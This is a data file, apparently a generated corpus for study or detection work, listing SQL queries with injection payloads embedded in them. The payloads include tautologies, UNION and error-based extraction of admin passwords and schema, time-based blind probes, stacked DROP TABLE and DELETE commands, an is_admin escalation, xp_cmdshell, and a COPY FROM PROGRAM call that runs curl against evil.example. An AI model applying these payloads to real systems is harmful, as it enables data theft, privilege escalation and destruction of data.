SELECT name, qty FROM stock WHERE sku = 'x' OR '5'='5'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR '5'='5' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR 'ab'>'aa' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR 'ab'>'aa'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR 'ab'>'aa' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' OR ''='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' OR ''=''
UPDATE visits SET hits = hits + 1 WHERE page = '' OR ''='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND 'a'='b' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND 'a'='b'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND 'a'='b' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND 3=3 AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND 3=3 AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND 3=3 AND 'q'='q' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR EXISTS(SELECT * FROM admins) AND ''='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR EXISTS(SELECT * FROM admins) AND ''=''
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR EXISTS(SELECT * FROM admins) AND ''='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND (SELECT CASE WHEN (username='root' AND LENGTH(password)>3) THEN 'a' ELSE to_char(1/0,'9') END FROM admins)='a' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND (SELECT CASE WHEN (username='root' AND LENGTH(password)>3) THEN 'a' ELSE to_char(1/0,'9') END FROM admins)='a'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND (SELECT CASE WHEN (username='root' AND LENGTH(password)>3) THEN 'a' ELSE to_char(1/0,'9') END FROM admins)='a' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' UNION SELECT NULL,NULL--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' UNION SELECT NULL,NULL--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' UNION SELECT NULL,NULL--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x' UNION SELECT NULL,NULL--%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' UNION ALL SELECT 1,'a'--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' UNION ALL SELECT 1,'a'--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' UNION ALL SELECT 1,'a'--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x' UNION ALL SELECT 1,'a'--%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT login, pw_hash FROM accounts--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT login, pw_hash FROM accounts--'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT login, pw_hash FROM accounts--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=current_schema()--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=current_schema()--'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=current_schema()--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT current_database(), version()--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT current_database(), version()--'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT current_database(), version()--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT login||'~'||password, NULL FROM admins--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT login||'~'||password, NULL FROM admins--'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT login||'~'||password, NULL FROM admins--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'||CAST((SELECT password FROM admins LIMIT 1) AS int)||'' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'||CAST((SELECT password FROM admins LIMIT 1) AS int)||''
UPDATE visits SET hits = hits + 1 WHERE page = 'x'||CAST((SELECT password FROM admins LIMIT 1) AS int)||'' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x'||CAST((SELECT password FROM admins LIMIT 1) AS int)||'', 'nice', 5)
UPDATE members SET nickname = 'x'||CAST((SELECT password FROM admins LIMIT 1) AS int)||'', updated_at = now() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'||(SELECT pg_sleep(5))||'' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'||(SELECT pg_sleep(5))||''
UPDATE visits SET hits = hits + 1 WHERE page = 'x'||(SELECT pg_sleep(5))||'' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x'||(SELECT pg_sleep(5))||'%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('x'||(SELECT pg_sleep(5))||'', 'nice', 5)
UPDATE members SET nickname = 'x'||(SELECT pg_sleep(5))||'', updated_at = now() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND (SELECT 1 FROM pg_sleep(5))=1--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND (SELECT 1 FROM pg_sleep(5))=1--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND (SELECT 1 FROM pg_sleep(5))=1--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x' AND (SELECT 1 FROM pg_sleep(5))=1--%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'||pg_sleep(5)--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'||pg_sleep(5)--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'||pg_sleep(5)--' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x'||pg_sleep(5)--', 'nice', 5)
UPDATE members SET nickname = 'x'||pg_sleep(5)--', updated_at = now() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; DROP TABLE accounts; --' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; DROP TABLE accounts; --'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; DROP TABLE accounts; --' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; DELETE FROM admins; --' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; DELETE FROM admins; --'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; DELETE FROM admins; --' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; SELECT pg_sleep(5)--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; SELECT pg_sleep(5)--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; SELECT pg_sleep(5)--' AND site = 4
SELECT id, name FROM customers WHERE name ILIKE '%x'; SELECT pg_sleep(5)--%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('x'; SELECT pg_sleep(5)--', 'nice', 5)
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; COPY t FROM PROGRAM 'curl evil.example'--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; COPY t FROM PROGRAM 'curl evil.example'--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; COPY t FROM PROGRAM 'curl evil.example'--' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x'||(SELECT password FROM admins LIMIT 1)||'', 'nice', 5)
UPDATE members SET nickname = 'x'||(SELECT password FROM admins LIMIT 1)||'', updated_at = now() WHERE member_id = 318
INSERT INTO feedback (author, message, stars) VALUES ('x'||version()||'', 'nice', 5)
UPDATE members SET nickname = 'x'||version()||'', updated_at = now() WHERE member_id = 318
INSERT INTO feedback (author, message, stars) VALUES ('x', (SELECT password FROM admins LIMIT 1), 5)--', 'nice', 5)
INSERT INTO feedback (author, message, stars) VALUES ('x', (SELECT string_agg(table_name,',') FROM information_schema.tables), 1)--', 'nice', 5)
INSERT INTO feedback (author, message, stars) VALUES ('x', current_user, 5)--', 'nice', 5)
UPDATE members SET nickname = 'x', is_admin=true WHERE member_id=7--', updated_at = now() WHERE member_id = 318
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (SELECT 1 FROM pg_sleep(5))
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (CASE WHEN (SELECT substr(password,1,1) FROM admins LIMIT 1)='a' THEN id ELSE price END)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (CASE WHEN 5=5 THEN price ELSE id END)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY CAST((SELECT version()) AS int)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY 1,CAST((SELECT password FROM admins LIMIT 1) AS int)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY 200--
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY id; DROP TABLE items
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (SELECT CASE WHEN (4=4) THEN 1 ELSE 1/0 END)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1; SELECT pg_sleep(4)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT (SELECT COUNT(*) FROM pg_user)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1 OFFSET (CASE WHEN (SELECT usesuper FROM pg_user LIMIT 1) THEN 0 ELSE 1 END)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1 UNION SELECT 1
SELECT id FROM orders WHERE status IN (1) OR 1=1--) AND total > 10
SELECT id FROM orders WHERE status IN (1) AND 4=4 AND (7=7) AND total > 10
SELECT id FROM orders WHERE status IN (1) UNION SELECT id FROM admins--) AND total > 10
SELECT id FROM orders WHERE status IN (1) AND (SELECT 1 FROM pg_sleep(4))=1--) AND total > 10
SELECT id, title, price FROM products WHERE category_id = 5' AND visible = true
SELECT * FROM invoices WHERE customer_no=5'
DELETE FROM cart_items WHERE item_id = 5'
SELECT id, title, price FROM products WHERE category_id = 5" AND visible = true
SELECT * FROM invoices WHERE customer_no=5"
DELETE FROM cart_items WHERE item_id = 5"
SELECT id, title, price FROM products WHERE category_id = 5') AND visible = true
SELECT * FROM invoices WHERE customer_no=5')
DELETE FROM cart_items WHERE item_id = 5')
SELECT id, title, price FROM products WHERE category_id = 5'))-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5'))--
DELETE FROM cart_items WHERE item_id = 5'))--
SELECT id, title, price FROM products WHERE category_id = 5' AND 1=1-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5' AND 1=1--
DELETE FROM cart_items WHERE item_id = 5' AND 1=1--
SELECT id, title, price FROM products WHERE category_id = 5) AND 1=1-- AND visible = true
SELECT * FROM invoices WHERE customer_no=5) AND 1=1--
DELETE FROM cart_items WHERE item_id = 5) AND 1=1--
SELECT u.id, u.login FROM accounts u WHERE u.login = 'o'brien'"' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'o'brien'"'
UPDATE visits SET hits = hits + 1 WHERE page = 'o'brien'"' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = ''' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '''
UPDATE visits SET hits = hits + 1 WHERE page = ''' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x') OR ('1'='1' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x') OR ('1'='1'
UPDATE visits SET hits = hits + 1 WHERE page = 'x') OR ('1'='1' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x')) OR 1=1--' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x')) OR 1=1--'
UPDATE visits SET hits = hits + 1 WHERE page = 'x')) OR 1=1--' AND site = 4
SELECT id, title, price FROM products WHERE category_id = 5 UNION SELECT AND visible = true
SELECT * FROM invoices WHERE customer_no=5 UNION SELECT
DELETE FROM cart_items WHERE item_id = 5 UNION SELECT
SELECT id, title, price FROM products WHERE category_id = 5 AND 1= AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=
DELETE FROM cart_items WHERE item_id = 5 AND 1=
SELECT id, title, price FROM products WHERE category_id = 5 AND SLEEP(5) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND SLEEP(5)
DELETE FROM cart_items WHERE item_id = 5 AND SLEEP(5)
SELECT id, title, price FROM products WHERE category_id = 5 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION())) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))
DELETE FROM cart_items WHERE item_id = 5 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))
SELECT id, title, price FROM products WHERE category_id = 5 WAITFOR DELAY '0:0:5' AND visible = true
SELECT * FROM invoices WHERE customer_no=5 WAITFOR DELAY '0:0:5'
DELETE FROM cart_items WHERE item_id = 5 WAITFOR DELAY '0:0:5'
SELECT id, title, price FROM products WHERE category_id = 5;EXEC xp_cmdshell('dir') AND visible = true
SELECT * FROM invoices WHERE customer_no=5;EXEC xp_cmdshell('dir')
DELETE FROM cart_items WHERE item_id = 5;EXEC xp_cmdshell('dir')
SELECT id, title, price FROM products WHERE category_id = 5 AND 1=CONVERT(int,@@version) AND visible = true
SELECT * FROM invoices WHERE customer_no=5 AND 1=CONVERT(int,@@version)
DELETE FROM cart_items WHERE item_id = 5 AND 1=CONVERT(int,@@version)
